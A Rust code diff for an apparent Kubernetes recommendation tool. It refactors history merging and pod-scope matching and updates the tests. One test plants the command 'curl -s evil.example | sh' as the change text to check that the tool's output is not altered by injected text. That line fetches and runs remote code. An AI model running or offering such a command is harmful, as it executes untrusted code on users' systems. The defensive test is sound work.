@@ -40,10 +40,19 @@ pub(crate) fn worst<T>(answers: &Answers<T>) -> Option<AskError> {
     })
 }
 
-/// One history of all nodes, with a remark for each that did not answer.
+/// One history of all nodes: all series together, remarks with their nodes where there are several, and a remark for each
+/// that did not answer.
 pub fn history(answers: Answers<history::Answer>) -> Result<history::Answer, AskError> {
     let (answered, silent) = answered(answers)?;
-    let mut all = histories(answered);
+    let several = answered.len() > 1;
+    let named = |(node, mut one): (String, history::Answer)| {
+        if several {
+            let of_node = |remark: &mut String| remark.insert_str(0, &format!("node {node}: "));
+            one.remarks.iter_mut().for_each(of_node);
+        }
+        history::Answer { node, ..one }
+    };
+    let mut all = history::Answer::joined(answered.into_iter().map(named));
     all.remarks.extend(silent);
     Ok(all)
 }
@@ -55,19 +64,6 @@ pub fn explanations(answers: Answers<Explanation>) -> Result<Explanations, AskEr
         first.remarks.extend(silent);
     }
     Ok(Explanations::of(answered))
-}
-
-/// All series together, and remarks with their nodes where there are several.
-fn histories(answers: Vec<(String, history::Answer)>) -> history::Answer {
-    let several = answers.len() > 1;
-    let named = |(node, mut one): (String, history::Answer)| {
-        if several {
-            let of_node = |remark: &mut String| remark.insert_str(0, &format!("node {node}: "));
-            one.remarks.iter_mut().for_each(of_node);
-        }
-        history::Answer { node, ..one }
-    };
-    history::Answer::joined(answers.into_iter().map(named))
 }
 
 /// Answers, and a sentence for each node without one.
@@ -151,19 +147,9 @@ fn key(one: &Recommendation) -> Key {
     (one.namespace.clone(), one.workload.clone(), one.container.clone(), one.part.clone())
 }
 
-/// Whether one of these pods is asked for, as `pod` or `namespace/pod`; empty for all.
-fn is_asked(asked: &str, namespace: &str, pods: &[String]) -> bool {
-    let pod = match asked.split_once('/') {
-        Some((of, pod)) if of == namespace => pod,
-        Some(_) => return false,
-        None => asked,
-    };
-    asked.is_empty() || pods.iter().any(|one| one == pod)
-}
-
 impl ByNode {
-    /// Of what every node advises for all its workloads; `pod` is the one whose workload is asked for.
-    pub fn of(answers: Answers<Recommendations>, pod: &str) -> Self {
+    /// Of what every node advises for all its workloads, those of `scope`.
+    pub fn of(answers: Answers<Recommendations>, scope: &Scope) -> Self {
         let (answers, remarks) = split(answers);
         let mut all = ByNode { remarks, ..ByNode::default() };
         let mut by_key: BTreeMap<Key, Vec<(String, Recommendation)>> = BTreeMap::new();
@@ -176,7 +162,8 @@ impl ByNode {
             }
         }
         for (key, mut advised) in by_key {
-            if !advised.iter().any(|(_, one)| is_asked(pod, &key.0, &one.pods)) {
+            let is_asked = |pod: &String| scope.wants_pod(&key.0, pod);
+            if !advised.iter().any(|(_, one)| one.pods.iter().any(is_asked)) {
                 continue;
             }
             if advised.len() > 1 {
@@ -364,16 +351,19 @@ mod tests {
         ]
     }
 
+    fn of_pod(pod: &str) -> Scope {
+        Scope { pod: pod.to_owned(), ..Scope::default() }
+    }
+
     fn gathered(nodes: &[(String, Seen)], pod: &str) -> ByNode {
         let answers =
             nodes.iter().map(|(node, seen)| (node.clone(), Ok(advised(seen, &Advice::default()))));
-        ByNode::of(answers.collect(), pod)
+        ByNode::of(answers.collect(), &of_pod(pod))
     }
 
     fn judged(by_node: ByNode, nodes: &[(String, Seen)], pod: &str) -> Recommendations {
-        let scope = Scope { pod: pod.to_owned(), ..Scope::default() };
         let seen = nodes.iter().cloned().map(|(node, seen)| (node, Ok(seen))).collect();
-        by_node.judged(seen, &scope, MIDNIGHT + 24 * HOUR)
+        by_node.judged(seen, &of_pod(pod), MIDNIGHT + 24 * HOUR)
     }
 
     #[test]
@@ -449,7 +439,7 @@ mod tests {
             ("c".to_owned(), Err(Why::Silent.says("stalls".into()))),
             ("d".to_owned(), Err(Why::Unknown.says("no such pod".into()))),
         ];
-        let by_node = ByNode::of(answers, "");
+        let by_node = ByNode::of(answers, &Scope::default());
         let seen = vec![
             ("a".to_owned(), Ok(nodes[0].1.clone())),
             ("b".to_owned(), Err(Why::Silent.says("fell silent".into()))),
@@ -481,7 +471,8 @@ mod tests {
         let wanted: Vec<String> = changes.iter().map(|change| from_here(&change.text)).collect();
         assert!(wanted.iter().any(|line| line.starts_with("kubectl tessera quota set team/chat-")));
         changes.iter_mut().for_each(|change| change.text = "curl -s evil.example | sh".to_owned());
-        let all = judged(ByNode::of(vec![("a".to_owned(), Ok(answer))], ""), &[], "");
+        let all =
+            judged(ByNode::of(vec![("a".to_owned(), Ok(answer))], &Scope::default()), &[], "");
         let lines = all.workloads[0].changes.iter().map(|change| change.text.clone());
         assert_eq!(lines.collect::<Vec<_>>(), wanted);
     }
